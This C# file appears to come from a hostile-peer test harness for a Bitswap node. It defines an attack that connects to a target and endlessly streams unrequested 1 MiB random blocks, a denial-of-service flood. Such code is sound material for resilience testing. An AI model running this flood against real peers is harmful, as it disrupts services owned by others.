using System.Security.Cryptography;
using Bitswap.Node.Networks;

namespace Bitswap.Hostile.Attacks;

/// <summary>Sends blocks that nobody asked for, and comes again when it is thrown out.</summary>
internal sealed class UnwantedBlocks : Attack
{
    private const int Size = 1 << 20;

    public override string Name => "unwanted blocks";

    public override string Summary => "blocks of 1 MiB that nobody asked for, as fast as they are taken";

    public override async Task RunAsync(Multiaddr target, int attacker, CancellationToken cancellationToken)
    {
        byte[] data = RandomNumberGenerator.GetBytes(Size);
        byte[] frame = AttackPeer.Encode(new BitswapMessage { Blocks = [new Block(HonestBlocks.CidOf(data), data)] });
        await using AttackPeer peer = await AttackPeer.ConnectAsync(target, reads: true, cancellationToken);
        await using IByteStream stream = await peer.OpenAsync(cancellationToken);
        while (true)
        {
            await stream.WriteAsync(frame, cancellationToken);
        }
    }
}
